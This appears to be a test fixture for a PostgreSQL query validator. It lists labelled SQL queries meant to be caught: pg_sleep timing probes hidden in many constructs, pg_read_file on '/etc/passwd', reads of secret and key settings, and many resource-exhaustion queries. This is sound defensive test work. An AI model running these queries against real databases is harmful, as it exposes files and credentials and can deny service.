SELECT domain_in('a',1,1)

-- function: range_in
SELECT range_in('a',1,1)

-- function: enum_recv
SELECT enum_recv('a',1)

-- function: regclassin
SELECT regclassin('pg_authid')

-- function: pg_node_tree_in
SELECT pg_node_tree_in('x')

-- function: fmgr_sql_validator
SELECT fmgr_sql_validator(1)

-- function: plpgsql_call_handler
SELECT plpgsql_call_handler()

-- function: nl.run
SELECT nl.run('q',1)

-- function: public.random
SELECT public.random()

-- function: evil.lower
SELECT evil.lower('a')

-- function: PG_SLEEP
SELECT "PG_SLEEP"(1)

-- function: pg_temp.f
SELECT pg_temp.f()

-- function: shop.public.f
SELECT shop.public.f()

-- function: pg_input_error_info
SELECT pg_input_error_info('x','int4')

-- function: pg_column_toast_chunk_id
SELECT pg_column_toast_chunk_id(1)

-- function: pg_lsn
SELECT pg_lsn('0/0')

-- function: xid
SELECT xid(1)

-- function: oidvectortypes
SELECT oidvectortypes('1')

-- function: pg_encoding_to_char
SELECT pg_encoding_to_char(6)

-- function: getdatabaseencoding
SELECT getdatabaseencoding()

-- function: pg_collation_for
SELECT pg_collation_for('a')

-- function: pg_collation_actual_version
SELECT pg_collation_actual_version(1)

-- function: setseed
SELECT setseed(0)

-- function: pg_sleep
SELECT id FROM customers WHERE pg_sleep(1) IS NOT NULL

-- function: pg_sleep
SELECT count(*) FROM customers HAVING pg_sleep(1) IS NULL

-- function: pg_sleep
SELECT DISTINCT ON (pg_sleep(1)::text) id FROM customers

-- function: pg_sleep
SELECT sum(id) OVER (PARTITION BY pg_sleep(1)::text) FROM customers

-- function: pg_sleep
SELECT sum(id) OVER w FROM customers WINDOW w AS (ORDER BY pg_sleep(1)::text)

-- function: pg_sleep
SELECT sum(id) OVER (ORDER BY id ROWS (SELECT 1 FROM pg_sleep(1)) PRECEDING) FROM customers

-- function: pg_sleep
SELECT string_agg(name, ',' ORDER BY pg_sleep(1)::text) FROM customers

-- function: pg_sleep
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY id + length(pg_sleep(1)::text)) FROM customers

-- function: pg_sleep
SELECT 1 FROM customers c JOIN orders o ON pg_sleep(1) IS NULL

-- function: pg_sleep
SELECT 1 FROM customers LIMIT length(pg_sleep(1)::text)

-- function: pg_sleep
SELECT 1 FROM customers OFFSET length(pg_sleep(1)::text)

-- function: pg_sleep
SELECT 1 FROM customers FETCH FIRST (length(pg_sleep(1)::text)) ROWS ONLY

-- function: pg_sleep
SELECT ARRAY[pg_sleep(1)]

-- function: pg_sleep
SELECT tags[length(pg_sleep(1)::text)] FROM customers

-- function: pg_sleep
SELECT tags[1:length(pg_sleep(1)::text)] FROM customers

-- function: pg_sleep
SELECT ROW(1, pg_sleep(1))

-- function: pg_sleep
SELECT COALESCE(pg_sleep(1)::text, 'a')

-- function: pg_sleep
SELECT NULLIF(pg_sleep(1)::text, 'a')

-- function: pg_sleep
SELECT GREATEST(pg_sleep(1)::text, 'a')

-- function: pg_sleep
SELECT CASE pg_sleep(1)::text WHEN '' THEN 1 END

-- function: pg_sleep
SELECT 1 BETWEEN 0 AND length(pg_sleep(1)::text)

-- function: pg_sleep
SELECT 1 IN (1, length(pg_sleep(1)::text))

-- function: pg_sleep
SELECT 1 = ANY (ARRAY[length(pg_sleep(1)::text)])

-- function: pg_sleep
SELECT (SELECT pg_sleep(1))

-- function: pg_sleep
SELECT 1 WHERE 1 IN (SELECT 1 FROM pg_sleep(1))

-- function: pg_sleep
SELECT NOT (pg_sleep(1) IS NULL)

-- function: pg_sleep
SELECT upper(name => pg_sleep(1)::text)

-- function: pg_sleep
SELECT concat(VARIADIC ARRAY[pg_sleep(1)::text])

-- function: pg_sleep
SELECT * FROM ROWS FROM (pg_sleep(1)) AS s

-- function: pg_sleep
SELECT * FROM customers, LATERAL (SELECT pg_sleep(1)) s

-- function: pg_sleep
SELECT * FROM customers TABLESAMPLE BERNOULLI (length(pg_sleep(1)::text))

-- function: pg_sleep
SELECT * FROM customers TABLESAMPLE BERNOULLI (1) REPEATABLE (length(pg_sleep(1)::text))

-- function: pg_sleep
SELECT JSON_ARRAY(pg_sleep(1)::text)

-- function: pg_sleep
SELECT JSON_VALUE('{}', '$.a' PASSING pg_sleep(1)::text AS x)

-- function: pg_sleep
SELECT JSON_VALUE('{}', '$.a' DEFAULT length(pg_sleep(1)::text) ON EMPTY)

-- function: pg_sleep
SELECT * FROM JSON_TABLE('{}', '$' PASSING pg_sleep(1)::text AS x COLUMNS (a int PATH '$')) t

-- function: pg_sleep
SELECT JSON_OBJECTAGG(name: pg_sleep(1)::text) FROM customers

-- function: pg_sleep
WITH a AS (SELECT pg_sleep(1)) SELECT 1

-- function: pg_sleep
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE pg_sleep(1) IS NULL) TABLE r

-- function: pg_sleep
SELECT 1 UNION SELECT length(pg_sleep(1)::text)

-- function: pg_sleep
SELECT 1 GROUP BY CUBE (pg_sleep(1)::text)

-- function: pg_sleep
SELECT pg_sleep(1)::text COLLATE "C"

-- function: pg_sleep
SELECT EXTRACT(YEAR FROM now() + length(pg_sleep(1)::text) * interval '1 day')

-- function: pg_sleep
SELECT now() AT TIME ZONE pg_sleep(1)::text

-- function: pg_sleep
SELECT 'a' LIKE 'b' ESCAPE pg_sleep(1)::text

-- function: pg_sleep
SELECT $a$x$a$ || pg_sleep(1)::text

-- function: pg_sleep
SELECT 1/*/**/*/+length(pg_sleep(1)::text)

-- function: pg_sleep
SELECT U&"!0070g_sleep" UESCAPE '!' (1)

-- type: regprocedure
SELECT 'x'::regprocedure

-- type: regoper
SELECT 'x'::regoper

-- type: regoperator
SELECT 'x'::regoperator

-- type: regtype
SELECT 'x'::regtype

-- type: regconfig
SELECT 'x'::regconfig

-- type: regdictionary
SELECT 'x'::regdictionary

-- type: regnamespace
SELECT 'x'::regnamespace

-- type: regcollation
SELECT 'x'::regcollation

-- type: oid
SELECT 'x'::oid

-- type: oidvector
SELECT 'x'::oidvector

-- type: xid
SELECT 'x'::xid

-- type: xid8
SELECT 'x'::xid8

-- type: cid
SELECT 'x'::cid

-- type: tid
SELECT 'x'::tid

-- type: pg_lsn
SELECT 'x'::pg_lsn

-- type: refcursor
SELECT 'x'::refcursor

-- type: aclitem
SELECT 'x'::aclitem

-- type: cstring
SELECT 'x'::cstring

-- type: record
SELECT 'x'::record

-- type: internal
SELECT 'x'::internal

-- type: anyelement
SELECT 'x'::anyelement

-- type: pg_node_tree
SELECT 'x'::pg_node_tree

-- type: txid_snapshot
SELECT 'x'::txid_snapshot

-- type: pg_snapshot
SELECT 'x'::pg_snapshot

-- type: unknown
SELECT 'x'::unknown

-- type: email
SELECT 'x'::public.email

-- type: text
SELECT 'x'::public.text

-- type: regclass
SELECT CAST(ARRAY['pg_authid'] AS regclass[])

-- type: xml
SELECT * FROM jsonb_to_record('{}') AS x (a xml)

-- type: regproc
SELECT * FROM json_to_recordset('[]') AS x (a int, b regproc)

-- type: customers
SELECT jsonb_populate_record(NULL::customers, '{}')

-- type: regclass
SELECT JSON_QUERY('{}', '$' RETURNING regclass)

-- type: evil
SELECT JSON_SERIALIZE('{}' RETURNING evil)

-- type: regrole
SELECT * FROM JSON_TABLE('{}', '$' COLUMNS (a regrole PATH '$')) t

-- type: mood
SELECT mood 'happy'

-- type: trap
SELECT NULL::public.trap

-- type: evilrange
SELECT '[1,2]'::evilrange

-- field: pg_sleep
SELECT (x.v).pg_sleep FROM (VALUES ('a'::text)) x (v)

-- field: lo_unlink
SELECT (x.v).lo_unlink FROM (VALUES ('a'::text)) x (v)

-- field: set_config
SELECT (x.v).set_config FROM (VALUES ('a'::text)) x (v)

-- field: pg_terminate_backend
SELECT (x.v).pg_terminate_backend FROM (VALUES ('a'::text)) x (v)

-- field: nextval
SELECT (x.v).nextval FROM (VALUES ('a'::text)) x (v)

-- field: pg_read_file
SELECT (x.v).pg_read_file FROM (VALUES ('a'::text)) x (v)

-- field: query_to_xml
SELECT (x.v).query_to_xml FROM (VALUES ('a'::text)) x (v)

-- field: pg_notify
SELECT (x.v).pg_notify FROM (VALUES ('a'::text)) x (v)

-- field: regclass
SELECT (x.v).regclass FROM (VALUES ('a'::text)) x (v)

-- field: pg_read_file
SELECT (name).pg_read_file FROM customers

-- field: pg_read_file
SELECT ((ARRAY['/etc/passwd'])[1]).pg_read_file

-- field: pg_read_file
SELECT ((SELECT '/etc/passwd'::text)).pg_read_file

-- field: lo_import
SELECT (CASE WHEN true THEN '1'::text END).lo_import

-- field: pg_column_size
SELECT (c).pg_column_size FROM customers c

-- field: evil
SELECT (c.profile).evil FROM customers c

-- field: pg_ls_dir
SELECT x.pg_ls_dir FROM unnest(ARRAY['/']) AS x

-- field: pg_sleep
SELECT g.pg_sleep FROM generate_series(1, 2) g

-- field: pg_read_file
SELECT lower.pg_read_file FROM lower('/etc/passwd')

-- field: lo_export
SELECT s.lo_export FROM ROWS FROM (upper('a')) AS s

-- field: pg_notify
SELECT 1 FROM string_to_table('a b', ' ') w ORDER BY w.pg_notify

-- field: pg_read_file
SELECT 1 FROM customers, unnest(tags) t WHERE t.pg_read_file <> ''

-- field: evil
SELECT j.evil FROM jsonb_array_elements('[1]') AS j

-- field: pg_logical_emit_message
SELECT orders.pg_logical_emit_message FROM orders

-- field: pg_level
SELECT e.pg_level FROM hr.employees e

-- operator: @-@
SELECT 1 @-@ 2

-- operator: ~==
SELECT 1 ~== 2

-- operator: *=
SELECT 1 *= 2

-- operator: <%
SELECT 1 <% 2

-- operator: %>
SELECT 1 %> 2

-- operator: <=>
SELECT 1 <=> 2

-- operator: <#>
SELECT 1 <#> 2

-- operator: |=|
SELECT 1 |=| 2

-- operator: =>>
SELECT 1 =>> 2

-- operator: !=-
SELECT 1 !=- 2

-- operator: evil.+
SELECT 1 OPERATOR(evil.+) 2

-- operator: public.-
SELECT OPERATOR(public.-) 1

-- operator: public.=
SELECT 1 = ANY (ARRAY[1]) AND 1 OPERATOR(public.=) ANY (ARRAY[1])

-- operator: public.<
SELECT 1 OPERATOR(public.<) ALL (SELECT 2)

-- operator: evil.~~
SELECT 'a' OPERATOR(evil.~~) 'b'

-- collation: evil
SELECT 'a' < 'b' COLLATE "evil"

-- collation: public.C
SELECT 'a' < 'b' COLLATE public."C"

-- collation: en_US.evil
SELECT 'a' < 'b' COLLATE "en_US.evil"

-- function: hba_file
SELECT current_setting('hba_file')

-- function: config_file
SELECT current_setting('config_file')

-- function: log_directory
SELECT current_setting('log_directory')

-- function: ssl_key_file
SELECT current_setting('ssl_key_file')

-- function: primary_conninfo
SELECT current_setting('primary_conninfo')

-- function: app.secret
SELECT current_setting('app.secret')

-- function: shared_preload_libraries
SELECT current_setting('shared_preload_libraries')

-- function: not written out
SELECT current_setting('data' || '_directory')

-- function: not written out
SELECT current_setting(name) FROM customers

-- function: custom
SELECT pg_catalog.current_setting('custom.key', true)

-- function: system_rows
SELECT * FROM customers TABLESAMPLE system_rows (10)

-- function: evil.bernoulli
SELECT * FROM customers TABLESAMPLE evil.bernoulli (10)

-- version: JSON OBJECT CONSTRUCTOR @15
SELECT JSON_OBJECT('a' VALUE 1)

-- version: JSON ARRAY CONSTRUCTOR @15
SELECT JSON_ARRAY(1, 2)

-- version: JSON ARRAY QUERY CONSTRUCTOR @15
SELECT JSON_ARRAY(SELECT id FROM customers)

-- version: JSON OBJECT AGG @15
SELECT JSON_OBJECTAGG(name VALUE id) FROM customers

-- version: JSON ARRAY AGG @15
SELECT JSON_ARRAYAGG(id) FROM customers

-- version: JSON IS PREDICATE @15
SELECT '{}' IS JSON

-- version: JSON FUNC EXPR @16
SELECT JSON_VALUE(profile, '$.a') FROM customers

-- version: JSON FUNC EXPR @16
SELECT JSON_QUERY(profile, '$.a') FROM customers

-- version: JSON FUNC EXPR @16
SELECT JSON_EXISTS(profile, '$.a') FROM customers

-- version: JSON FUNC EXPR @13
SELECT json_value(profile::text, '$') FROM customers

-- version: JSON TABLE @16
SELECT * FROM JSON_TABLE('[1]', '$[*]' COLUMNS (a int PATH '$')) t

-- version: JSON PARSE EXPR @16
SELECT JSON('{}')

-- version: JSON SCALAR EXPR @16
SELECT JSON_SCALAR(1)

-- version: JSON SERIALIZE EXPR @16
SELECT JSON_SERIALIZE('{}')

-- version: 0x1F @14
SELECT 0x1F

-- version: 0b11 @14
SELECT 0b11

-- version: 0o17 @14
SELECT 0o17

-- version: 1_000 @14
SELECT 1_000

-- version: 1_0.5_0 @15
SELECT 1_0.5_0

-- version: 0X1f @13
SELECT * FROM customers LIMIT 0X1f

-- version: string_to_table @13
SELECT * FROM string_to_table('a b', ' ')

-- version: date_bin @13
SELECT date_bin('1 day', now(), now())

-- version: range_agg @13
SELECT range_agg(during) FROM bookings

-- version: unistr @13
SELECT unistr('a')

-- version: trim_array @13
SELECT trim_array(tags, 1) FROM customers

-- version: bit_count @13
SELECT bit_count(B'11')

-- version: operator !! @13
SELECT !! 100000

-- version: nummultirange @13
SELECT '{}'::nummultirange

-- version: tstzmultirange @13
SELECT tstzmultirange(during) FROM bookings

-- version: regexp_like @14
SELECT regexp_like('a', 'a')

-- version: regexp_count @14
SELECT regexp_count('a', 'a')

-- version: regexp_substr @14
SELECT regexp_substr('a', 'a')

-- version: regexp_instr @14
SELECT regexp_instr('a', 'a')

-- version: any_value @15
SELECT any_value(id) FROM customers

-- version: array_shuffle @15
SELECT array_shuffle(tags) FROM customers

-- version: random_normal @15
SELECT random_normal()

-- version: date_add @15
SELECT date_add(now(), '1 day')

-- version: erf @15
SELECT erf(1)

-- version: json_agg_strict @15
SELECT json_agg_strict(id) FROM customers

-- version: to_bin @16
SELECT to_bin(5)

-- version: to_oct @16
SELECT to_oct(5)

-- version: unicode_assigned @16
SELECT unicode_assigned('a')

-- version: uuid_extract_version @16
SELECT uuid_extract_version(gen_random_uuid())

-- version: uuidv7 @17
SELECT uuidv7()

-- version: array_sort @17
SELECT array_sort(tags) FROM customers

-- version: casefold @17
SELECT casefold(name) FROM customers

-- version: crc32 @17
SELECT crc32('a')

-- version: gamma @17
SELECT gamma(5)

-- version: array_reverse @17
SELECT array_reverse(tags) FROM customers

-- version: PostgreSQL 12 @12
SELECT 1

-- version: PostgreSQL 9 @9
TABLE customers

-- cost: repeat
SELECT repeat(repeat('a',10000),10000)

-- cost: replace
SELECT replace(lpad('',60000,'a'),'a',lpad('',60000,'b'))

-- cost: translate
SELECT translate(lpad('', 60000, 'a'), lpad('', 60000, 'b'), '')

-- cost: repeat
SELECT pg_catalog.repeat('x', 10^9::int)

-- cost: repeat
SELECT repeat('x', id) FROM customers

-- cost: repeat
SELECT repeat('x', (SELECT 1000000000))

-- cost: repeat
SELECT repeat('x', (VALUES (1000000000)))

-- cost: repeat
SELECT repeat('x', CASE WHEN true THEN 1000000000 END)

-- cost: repeat
SELECT repeat('x', coalesce(NULL, 1000000000))

-- cost: repeat
SELECT repeat('x', greatest(1, 1000000000))

-- cost: repeat
SELECT repeat('x', '1000000000'::int)

-- cost: repeat
SELECT repeat('x', length(repeat('x', 50000)) * 100000)

-- cost: repeat
WITH a AS (SELECT repeat('x',90000) s), b AS (SELECT repeat(s,900) s FROM a) SELECT repeat(s,900) FROM b

-- cost: lpad
SELECT lpad('', 1000000000)

-- cost: rpad
SELECT rpad('x', 10^9::int, 'y')

-- cost: bpchar
SELECT 'x'::char(10000000)

-- cost: bit
SELECT '1'::bit(80000000)

-- cost: array_fill
SELECT array_fill(0, ARRAY[1000,1000,10])

-- cost: array_fill
SELECT array_fill(0, '{100000000}'::int[])

-- cost: array_fill
SELECT array_fill(repeat('x',1000), ARRAY[1000])

-- cost: generate_series
SELECT * FROM generate_series(1, 1e12::bigint)

-- cost: the query
SELECT count(*) FROM generate_series(1,1000000) a, generate_series(1,1000000) b

-- cost: the query
SELECT count(*) FROM generate_series(1,100000) a JOIN generate_series(1,100000) b ON a = b

-- cost: the query
SELECT generate_series(1,100000) FROM generate_series(1,100000)

-- cost: the query
SELECT (SELECT count(*) FROM generate_series(1,100000) b WHERE b > a) FROM generate_series(1,100000) a

-- cost: the query
WITH s AS (SELECT generate_series(1,10000) x) SELECT count(*) FROM s a, s b, s c

-- cost: generate_series
SELECT count(*) FROM generate_series(1, id + 1000000000) , customers

-- cost: generate_series
SELECT * FROM generate_series('2000-01-01'::timestamp, '2100-01-01', '1 microsecond')

-- cost: generate_series
SELECT * FROM generate_series(now(), now() + interval '100 years', '1 second')

-- cost: generate_series
SELECT * FROM generate_series(current_date - 100000, current_date, '1 second')

-- cost: generate_series
SELECT * FROM generate_series(timestamp '2000-01-01', timestamp 'infinity', '1 day')

-- cost: generate_series
SELECT * FROM generate_series(0, 1, 0.0000001)

-- cost: generate_series
SELECT * FROM generate_series(0.0, 'infinity'::float8::numeric, 1.0)

-- cost: format
SELECT format('%1000000000s', 'x')

-- cost: format
SELECT format('%*s', 1000000000, 'x')

-- cost: format
SELECT format('%1$s%1$s%1$s%1$s', repeat('x', 50000))

-- cost: format
SELECT format(name, 1) FROM customers

-- cost: an aggregate
SELECT string_agg(lpad('', 10000, 'x'), '') FROM generate_series(1, 100000)

-- cost: an aggregate
SELECT array_agg(lpad('', 10000, 'x')) FROM generate_series(1, 100000)

-- cost: ARRAY
SELECT ARRAY(SELECT lpad('', 10000, 'x') FROM generate_series(1, 100000))

-- cost: ^
SELECT 10.0 ^ 131000

-- cost: power
SELECT power(10.0, 100000)

-- cost: array_to_string
SELECT array_to_string(array_fill('x'::text, ARRAY[50000]), repeat('x', 50000))

-- cost: regexp_replace
SELECT regexp_replace(repeat('a', 50000), '', repeat('b', 50000), 'g')

-- cost: regexp_replace
SELECT regexp_replace(repeat('a', 50000), '.*', '\\&\\&\\&\\&', '')

-- cost: quote_literal
SELECT quote_literal(repeat('''', 60000))

-- cost: concat
SELECT concat(repeat('a', 60000), repeat('b', 60000))

-- cost: concat_ws
SELECT concat_ws(repeat('a', 60000), 1, 2, 3)

-- cost: ||
SELECT repeat('a', 60000) || repeat('b', 60000)

-- cost: the query
SELECT count(*) FROM unnest(array_fill(0, ARRAY[50000])) a, unnest(array_fill(0, ARRAY[50000])) b

-- cost: the query
SELECT count(*) FROM string_to_table(repeat('a,', 40000), ',') a, string_to_table(repeat('a,', 40000), ',') b

-- cost: generate_series
SELECT count(*) FROM ROWS FROM (generate_series(1, 2000000)) x

-- cost: an aggregate
SELECT jsonb_agg(lpad('', 20000, 'x')) FROM generate_series(1, 100000)

-- cost: an aggregate
SELECT JSON_ARRAYAGG(lpad('', 20000, 'x')) FROM generate_series(1, 100000)

-- cost: the query
SELECT 1 FROM generate_series(1,1000) a, generate_series(1,1000) b, generate_series(1,1000) c LIMIT 1

-- cost: generate_series
SELECT CASE WHEN EXISTS (SELECT 1 FROM generate_series(1, 100000000)) THEN 1 END

-- cost: WITH RECURSIVE r
WITH RECURSIVE r(s, n) AS (SELECT 'x', 1 UNION ALL SELECT s || s, n + 1 FROM r WHERE n < 40) SELECT length(s) FROM r

-- cost: overlay
SELECT overlay(repeat('a', 60000) PLACING repeat('b', 60000) FROM 1)

-- cost: to_jsonb
SELECT to_jsonb(repeat('"', 60000))

-- cost: encode
SELECT encode(repeat('a', 60000)::bytea, 'hex')

-- cost: an aggregate
SELECT json_agg(x) OVER () FROM (SELECT lpad('', 50000, 'x') AS x FROM generate_series(1, 1000)) t

-- cost: ||
SELECT s||s FROM (SELECT s||s AS s FROM (SELECT s||s AS s FROM (SELECT lpad('',30000,'x') AS s) a) b) c

-- cost: repeat
SELECT repeat('x', count(*)::int) FROM customers

-- cost: repeat
SELECT repeat(name, level) FROM (SELECT name, id AS level FROM customers) t

-- cost: lpad
SELECT lpad(name, id) FROM customers

-- cost: rpad
SELECT rpad(name, id * 1000) FROM customers

-- cost: repeat
SELECT repeat(name, 10000) FROM customers

-- cost: array_fill
SELECT array_fill(0, ARRAY[id]) FROM customers

-- cost: array_fill
SELECT array_fill(0, tags::int[]) FROM customers

-- cost: factorial
SELECT factorial(id) FROM customers

-- cost: format
SELECT format('%-200000s', name) FROM customers

-- cost: format
SELECT format(VARIADIC ARRAY['%9999999s', 'a'])

-- cost: the query
SELECT 1 FROM generate_series(1, 2000) a CROSS JOIN (SELECT * FROM generate_series(1, 2000)) b

-- cost: generate_series
SELECT * FROM generate_series(1, 2000000)

-- cost: generate_series
SELECT * FROM generate_series(-3000000, 0)

-- cost: generate_series
SELECT * FROM generate_series(3000000, 1, -1)

-- cost: generate_series
SELECT * FROM generate_series(1, 10, 0)

-- cost: generate_series
SELECT * FROM generate_series(date '2000-01-01', date '2024-01-01', interval '1 second')

-- cost: generate_series
SELECT pg_catalog.generate_series(1, 10000000000)

-- cost: WITH RECURSIVE
WITH RECURSIVE r AS (SELECT ARRAY[1] AS a UNION ALL SELECT a || a FROM r) SELECT cardinality(a) FROM r LIMIT 40

-- cost: WITH RECURSIVE
WITH RECURSIVE r(a, b) AS (SELECT 'x', 'y' UNION ALL SELECT a || b, b || a FROM r) SELECT length(a) FROM r LIMIT 60

-- cost: WITH RECURSIVE
WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT replace(s, 'x', 'xx') FROM r) SELECT length(s) FROM r LIMIT 40

-- cost: WITH RECURSIVE
WITH RECURSIVE r(s) AS (SELECT 'x' UNION ALL SELECT concat(q.s, ',', q.s) FROM r q) SELECT length(s) FROM r LIMIT 40

-- cost: repeat
SELECT (SELECT repeat('x', n) FROM (VALUES (1000000000)) v (n))

-- cost: repeat
SELECT repeat('x', floor(random() * 1000000000)::int)

-- cost: bpchar
SELECT CAST(name AS character(10000000)) FROM customers

-- cost: bit
SELECT 1::bit(80000000)

-- cost: pow
SELECT pow(2.0, 1000000)

-- cost: ^
SELECT 2 ^ 3 ^ 999999

-- cost: translate
SELECT translate(rpad('', 50000, 'abc'), rpad('', 50000, 'xyz'), 'q')

-- cost: replace
SELECT replace(rpad('', 90000, 'ab'), rpad('', 40000, 'ab') || 'c', '')

-- cost: array_to_string
SELECT array_to_string(tags, repeat(',', 90000)) FROM customers

-- cost: repeat
SELECT repeat('x', least('NaN'::float8, id + 1000000000)::int) FROM customers

-- cost: bpchar
SELECT JSON_VALUE('"a"', '$' RETURNING character(10000000))

-- cost: bpchar
SELECT * FROM json_to_record('{}') AS x (a character(9000000))

-- cost: bit
SELECT * FROM JSON_TABLE('[1]', '$[*]' COLUMNS (a bit(80000000) PATH '$')) AS t

-- cost: polygon
SELECT polygon(30000000, '<(0,0),1>'::circle)

-- cost: ts_headline
SELECT ts_headline(repeat('a ', 40000), 'a', 'HighlightAll=true, StartSel=' || repeat('x', 9000))

-- field: quote_literal
SELECT ((('''x'::text).quote_literal).quote_literal).quote_literal

-- field: factorial
SELECT (100000::bigint).factorial

-- field: unnest
SELECT (tags).unnest FROM customers

-- field: to_jsonb
SELECT f.to_jsonb FROM unnest(ARRAY['x']) AS f

-- cost: btrim
SELECT btrim(repeat('b', 60000), repeat('ab', 30000))

-- cost: ltrim
SELECT ltrim(repeat('b', 60000), (SELECT repeat('ab', 30000)))

-- cost: rtrim
SELECT rtrim(s, t) FROM (SELECT repeat('b', 60000) AS s, repeat('ab', 30000) AS t) AS q

-- cost: btrim
SELECT trim(BOTH repeat('ab', 30000) FROM repeat('b', 60000))

-- cost: strpos
SELECT strpos(repeat('a', 90000), 'b' || repeat('a', 40000))

-- cost: position
SELECT position('b' || repeat('a', 40000) IN repeat('a', 90000))

-- cost: split_part
SELECT split_part(repeat('a', 90000), 'b' || repeat('a', 40000), 1)

-- cost: string_to_array
SELECT string_to_array(repeat('a', 90000), 'b' || repeat('a', 40000))

-- cost: ~~
SELECT repeat('a', 90000) LIKE '%' || repeat('a', 40000) || 'b'

-- cost: !~~*
SELECT repeat('a', 90000) NOT ILIKE '%' || repeat('a', 40000) || 'b'

-- cost: ~
SELECT repeat('a', 90000) ~ repeat('a?', 20000)

-- cost: &&
SELECT ARRAY(SELECT generate_series(1, 50000)) && ARRAY(SELECT generate_series(50001, 100000))

-- cost: @>
SELECT ('[' || repeat('[1],', 20000) || '2]')::jsonb @> ('[' || repeat('[3],', 20000) || '4]')::jsonb

-- cost: -
SELECT j - a FROM (SELECT jsonb_object_agg(g, g) AS j, array_agg(g::text) AS a FROM generate_series(1, 50000) AS g) AS q

-- cost: <->
SELECT p <-> p FROM (SELECT ('[' || repeat('(1,2),', 9000) || '(3,4)]')::path AS p) AS q

-- cost: normalize
SELECT normalize('a' || repeat(U&'\0301\0327', 20000))

-- cost: jsonb_pretty
SELECT jsonb_pretty((repeat('[', 3000) || repeat(']', 3000))::jsonb)

-- cost: jsonb_path_query_array
SELECT jsonb_path_query_array((repeat('[', 3000) || repeat(']', 3000))::jsonb, '$.**.**')

-- cost: jsonb_path_query_array
SELECT jsonb_path_query_array(path => '$.**.**', target => (repeat('[', 3000) || repeat(']', 3000))::jsonb)

-- cost: jsonb_path_exists
SELECT jsonb_path_exists((repeat('[', 3000) || repeat(']', 3000))::jsonb, ('$' || repeat('.**', 3))::jsonpath)

-- cost: @?
SELECT (repeat('[', 3000) || repeat(']', 3000))::jsonb @? '$ ? (exists($.**.**.**))'

-- cost: a path of JSON
SELECT JSON_QUERY((repeat('[', 3000) || repeat(']', 3000))::jsonb, '$.**.**' WITH WRAPPER)

-- cost: a path of JSON
SELECT * FROM JSON_TABLE((repeat('[', 3000) || repeat(']', 3000))::jsonb, '$.**.**' COLUMNS (a jsonb PATH '$')) AS t

-- cost: log
SELECT log(1 + 1e-16000, 2.0)

-- cost: log
SELECT log(1 - 10.0 ^ -9999, 2.0)

-- cost: log
SELECT log(('0.' || repeat('9', 16000))::numeric, 2.0)

-- cost: the statement
SELECT translate(repeat('a', 3000), repeat('b', 3000), ''), btrim(repeat('b', 3000), repeat('ab', 1500))

-- cost: *
SELECT repeat('9', 65000)::numeric * repeat('9', 65000)::numeric

-- cost: %
SELECT n % m FROM (SELECT repeat('9', 90000)::numeric AS n, repeat('8', 45000)::numeric AS m) AS q

-- cost: power
SELECT power(repeat('9', 65000)::numeric, 2)

-- cost: mod
SELECT mod(lpad('', 90000, '9')::numeric, lpad('', 45000, '8')::numeric)

-- cost: log
SELECT log(1 + ('[1e-16000]'::jsonb -> 0)::numeric, 2.0)

-- cost: log
SELECT log(1 + 1 / 1e9000, 2.0)
